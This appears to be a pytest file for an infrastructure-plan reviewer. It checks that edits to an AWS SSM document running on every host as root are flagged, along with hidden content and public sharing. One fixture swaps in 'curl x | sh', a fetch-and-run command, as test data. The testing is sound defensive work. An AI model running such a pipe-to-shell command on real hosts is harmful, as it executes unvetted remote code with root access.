"""Findings about the document that runs on the hosts."""

import pytest

from albpatch.plan.read import parse
from albpatch.plan.review import review
from unit.plan.bent import NOW, found, made
from unit.plan.plans import plan

HOST = "module.web.aws_ssm_document.await_quiet[0]"
TEXT = 'schemaVersion: "2.2"\nmainSteps:\n- name: A\n  action: aws:runShellScript\n  inputs: {runCommand: ["true"]}\n'


def with_text(text, **more):
    """The sound call with a Command document of this text."""
    one = made()
    one.add(HOST, name="web-await-quiet", document_type="Command", content=text, permissions=None, **more)
    return one


def test_another_text_is_for_a_reader():
    """A document that runs on every host as root does not change unsaid; how much changed stands beside it."""
    after, before = with_text(TEXT.replace("true", "curl x | sh")), with_text(TEXT)

    assert found(after, before) == [("guard-changed", HOST)]
    (told,) = review(parse(plan(after, before)), None, NOW).findings
    assert told.what == "The text of the document that runs on the hosts changed: 1 lines added, 1 removed."


@pytest.mark.parametrize("text", [TEXT, f"# a comment\n{TEXT}", TEXT.replace(": aws", ":   aws")])
def test_the_same_text_is_nothing(text):
    """Neither is the layout of the file, nor a document that is new."""
    assert found(with_text(text), with_text(TEXT)) == []
    assert found(with_text(text)) == []


def test_a_text_that_cannot_be_read_is_compared_as_it_is():
    """What is no YAML is still another text."""
    assert found(with_text("{"), with_text(TEXT)) == [("guard-changed", HOST)]


def test_a_text_that_is_not_shown():
    """Whether it changed is not known, and said."""
    hidden = with_text(None)
    hidden.unknown[HOST] = {"content": True}

    assert found(hidden, with_text(TEXT)) == [("not-shown", HOST)]


def test_a_document_that_is_shared():
    """Sharing it is a finding, as for a runbook."""
    shared = with_text(TEXT).put(HOST, "permissions", value={"type": "Share", "account_ids": "all"})

    assert found(shared) == [("document-public", HOST)]
